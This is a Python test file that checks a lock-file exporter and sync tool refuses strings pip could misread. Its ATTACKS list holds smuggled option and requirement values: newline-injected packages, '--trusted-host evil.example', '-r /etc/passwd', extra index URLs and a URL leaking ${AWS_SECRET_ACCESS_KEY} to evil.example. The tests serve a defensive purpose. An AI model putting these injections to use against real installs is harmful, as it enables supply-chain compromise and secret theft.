"""Lock strings never reach pip unvalidated; sync hands pip only the selected file.

Locks here are built with ``Pylock.from_dict`` (as a library caller could), so they
skip ``read_lock``'s own string checks: export and sync must refuse them where
the text for pip is written, before pip runs. The e2e tests run real pip.
"""

from __future__ import annotations

import os
import subprocess
import sys
import venv
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from packaging.pylock import Pylock

from reqlock.cli.main import main
from reqlock.deploy.export import export_requirements
from reqlock.deploy.sync import sync
from reqlock.deploy.verify import verify
from reqlock.errors import ConfigError, LockFileError, ReqlockError
from tests.fakeindex.build import build_sdist, build_wheel
from tests.test_export import LINUX
from tests.test_verify import HERE_ENV, HERE_TAGS, fake_hash, lock_dict, package, sha256_of

INDEX = "https://pypi.example/simple"
EVIL_HASH = "sha256:" + fake_hash("evil")


def lines(text: str) -> list[str]:
    return [line.strip().rstrip("\\").strip() for line in text.splitlines() if line.strip()]


# --------------------------------------------------------------------------- only_selected


def test_only_selected_lists_one_hash_and_forbids_building() -> None:
    lock = Pylock.from_dict(
        lock_dict(
            [
                package(
                    "native",
                    "1.0",
                    tags=["cp312-cp312-manylinux_2_17_x86_64", "py3-none-any"],
                    sdist=True,
                    index=INDEX,
                ),
                package("pure", "2.0", sdist=True, index=INDEX),
            ],
            environments=["sys_platform == 'linux'"],
        )
    )
    text = export_requirements(lock, target=LINUX, only_selected=True)
    got = lines(text)
    assert "--only-binary :all:" in got
    native = got.index("native==1.0")
    best = fake_hash("native-1.0-cp312-cp312-manylinux_2_17_x86_64.whl")
    assert got[native + 1] == f"--hash=sha256:{best}"
    assert fake_hash("native-1.0-py3-none-any.whl") not in text
    assert fake_hash("native-1.0.tar.gz") not in text
    assert fake_hash("pure-2.0.tar.gz") not in text
    # Without it, every file the target could use is listed (export's default).
    assert fake_hash("native-1.0.tar.gz") in export_requirements(lock, target=LINUX)


def test_only_selected_names_each_binary_package_when_one_builds() -> None:
    lock = Pylock.from_dict(
        lock_dict(
            [
                package("wheelpkg", "1.0", index=INDEX),
                package("srconly", "1.0", tags=[], sdist=True, index=INDEX),
            ],
            environments=None,
        )
    )
    got = lines(export_requirements(lock, environment=HERE_ENV, tags=HERE_TAGS, only_selected=True))
    assert "--only-binary wheelpkg" in got
    assert "--only-binary :all:" not in got
    assert not any(line.startswith("--only-binary srconly") for line in got)
    # ...and pip may not take a wheel lying next to the locked sdist.
    assert "--no-binary srconly" in got
    assert f"--hash=sha256:{fake_hash('srconly-1.0.tar.gz')}" in got


# --------------------------------------------------------------------------- attacks


def _attack(field: str, value: str) -> dict[str, Any]:
    entry = package("victim", "1.0", sdist=True)
    if field == "index":
        entry["index"] = value
    elif field == "url":
        entry["wheels"][0]["url"] = value
    elif field == "sdist-url":
        entry["sdist"]["url"] = value
    elif field == "hash":
        entry["wheels"][0]["hashes"] = {"sha256": value}
    elif field == "path":
        del entry["wheels"][0]["url"]
        entry["wheels"][0]["path"] = value
    elif field == "archive":
        entry = {"name": "victim", "archive": {"url": value, "hashes": {"sha256": fake_hash("a")}}}
    return entry


ATTACKS = [
    ("index", "https://pypi.example/simple\nevil==6.6.6 --hash=" + EVIL_HASH, ".index"),
    ("index", "https://pypi.example/simple --trusted-host evil.example", ".index"),
    ("index", "--trusted-host=evil.example", ".index"),
    ("url", "https://files.example/victim-1.0-py3-none-any.whl\n-r /etc/passwd", ".wheels[0].url"),
    ("url", "https://files.example/victim-1.0-py3-none-any.whl --no-deps", ".wheels[0].url"),
    ("url", "https://${AWS_SECRET_ACCESS_KEY}@evil.example/victim-1.0-py3-none-any.whl", ".url"),
    ("sdist-url", "https://files.example/victim-1.0.tar.gz\u2028evil==1", ".sdist.url"),
    ("hash", fake_hash("x") + "\n--extra-index-url https://evil.example", ".hashes.sha256"),
    ("hash", fake_hash("x") + " --trusted-host evil", ".hashes.sha256"),
    ("path", "wheels/x\n-r /etc/passwd/victim-1.0-py3-none-any.whl", ".wheels[0].path"),
    ("archive", "https://a.example/v.zip\n--index-url https://evil.example", ".archive.url"),
]


@pytest.mark.parametrize(("field", "value", "key"), ATTACKS)
def test_export_refuses_lock_strings_pip_could_misread(field: str, value: str, key: str) -> None:
    lock = Pylock.from_dict(lock_dict([_attack(field, value)], environments=None))
    for only in (False, True):
        with pytest.raises(LockFileError) as info:
            export_requirements(
                lock,
                environment=HERE_ENV,
                tags=HERE_TAGS,
                lock_name="pylock.toml",
                only_selected=only,
            )
        error = info.value
        assert error.path == "pylock.toml"
        assert error.key is not None
        assert error.key.startswith("packages[0]")
        assert error.key.endswith(key)
        assert "\n" not in error.message
        assert "secret" not in str(error).lower() or "${" in str(error)


def test_a_bad_index_url_option_is_a_config_error() -> None:
    lock = Pylock.from_dict(lock_dict([package("a", "1", index=INDEX)], environments=None))
    with pytest.raises(ConfigError, match="--index-url"):
        export_requirements(
            lock, environment=HERE_ENV, tags=HERE_TAGS, index_url=INDEX + "\n-r /etc/passwd"
        )
    # pip expands ${VAR}: the user's own index URL may use it, a lock's may not.
    text = export_requirements(
        lock, environment=HERE_ENV, tags=HERE_TAGS, index_url="https://${USER}:${TOKEN}@m.example/"
    )
    assert "--index-url https://${USER}:${TOKEN}@m.example/" in text


def test_exported_text_has_one_line_per_option_and_requirement(tmp_path: Path) -> None:
    wheels = tmp_path / "my wheels" / "-r x"
    entry = {
        "name": "local",
        "version": "1.0",
        "wheels": [
            {
                "path": str(wheels / "local-1.0-py3-none-any.whl"),
                "hashes": {"sha256": fake_hash("l")},
            }
        ],
    }
    text = export_requirements(
        Pylock.from_dict(lock_dict([entry], environments=None)),
        environment=HERE_ENV,
        tags=HERE_TAGS,
        only_selected=True,
    )
    links = [line for line in text.splitlines() if line.startswith("--find-links")]
    assert links == [f"--find-links {wheels.as_uri()}/"]
    assert " " not in links[0].split(" ", 1)[1]


def test_the_command_line_refuses_the_same_strings(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # read_lock refuses most of them; export refuses what it lets through (${VAR}).
    path = tmp_path / "pylock.toml"
    for field, value, _ in ATTACKS:
        path.write_text(tomli_w.dumps(lock_dict([_attack(field, value)], environments=None)))
        out_file = tmp_path / "requirements.txt"
        assert main(["export", str(path), "-o", str(out_file)]) == 2, value
        err = capsys.readouterr().err
        assert err.startswith("error: ")
        assert "packages[0]" in err
        assert not out_file.exists()


# --------------------------------------------------------------------------- with pip


def _bare_venv(root: Path) -> str:
    venv.EnvBuilder(with_pip=False, symlinks=os.name != "nt").create(root)
    return str(root / ("Scripts/python.exe" if os.name == "nt" else "bin/python"))


def _site(python: str) -> Path:
    out = subprocess.run(
        [python, "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        capture_output=True,
        text=True,
        check=True,
    )
    return Path(out.stdout.strip())


@pytest.mark.e2e
def test_sync_refuses_an_injected_index_and_installs_nothing(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    wheel = build_wheel(wheels, "victim", "1.0")
    build_wheel(wheels, "evil", "6.6.6")
    entry = {
        "name": "victim",
        "version": "1.0",
        "index": f"{INDEX}\n--find-links {wheels.as_uri()}/\nevil==6.6.6",
        "wheels": [{"url": Path(wheel).as_uri(), "hashes": {"sha256": sha256_of(Path(wheel))}}],
    }
    lock = Pylock.from_dict(lock_dict([entry], environments=None))
    python = _bare_venv(tmp_path / "venv")
    before = sorted(p.name for p in _site(python).iterdir())
    with pytest.raises(LockFileError, match=r"packages\[0\]\.index"):
        sync(lock, python=python)
    assert sorted(p.name for p in _site(python).iterdir()) == before
    # And from a file, the command line refuses it with exit 2.
    path = tmp_path / "pylock.toml"
    path.write_text(tomli_w.dumps(lock_dict([entry], environments=None)))
    assert main(["sync", str(path), "--python", python]) == 2
    assert sorted(p.name for p in _site(python).iterdir()) == before


@pytest.mark.e2e
def test_sync_never_builds_the_sdist_when_the_wheel_hash_is_wrong(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    wheel = Path(build_wheel(wheels, "victim", "1.0"))
    sdist = Path(build_sdist(wheels, "victim", "1.0"))
    entry = {
        "name": "victim",
        "version": "1.0",
        "wheels": [{"url": wheel.as_uri(), "hashes": {"sha256": fake_hash("edited")}}],
        "sdist": {"url": sdist.as_uri(), "hashes": {"sha256": sha256_of(sdist)}},
    }
    lock = Pylock.from_dict(lock_dict([entry], environments=None))
    python = _bare_venv(tmp_path / "venv")
    with pytest.raises(ReqlockError) as info:
        sync(lock, python=python)
    message = str(info.value)
    assert "victim" in message
    assert "victim-1.0-py3-none-any.whl" in message
    assert "HASH" in message.upper()
    assert not any(p.name.startswith("victim") for p in _site(python).iterdir())
    assert [p.kind for p in verify(lock, python=python).problems] == ["missing"]


def test_pip_is_told_per_package_only_binary(tmp_path: Path) -> None:
    """The --only-binary lines pip gets are ones it accepts (no network: --dry-run
    of an empty requirement set)."""
    lock = Pylock.from_dict(
        lock_dict(
            [package("wheelpkg", "1.0"), package("srconly", "1.0", tags=[], sdist=True)],
            environments=None,
        )
    )
    text = export_requirements(lock, environment=HERE_ENV, tags=HERE_TAGS, only_selected=True)
    options = [line for line in text.splitlines() if line.startswith("--")]
    requirements = tmp_path / "r.txt"
    requirements.write_text("\n".join(options) + "\n")
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "--isolated",
            "install",
            "--dry-run",
            "-r",
            str(requirements),
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "PIP_CONFIG_FILE": os.devnull},
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
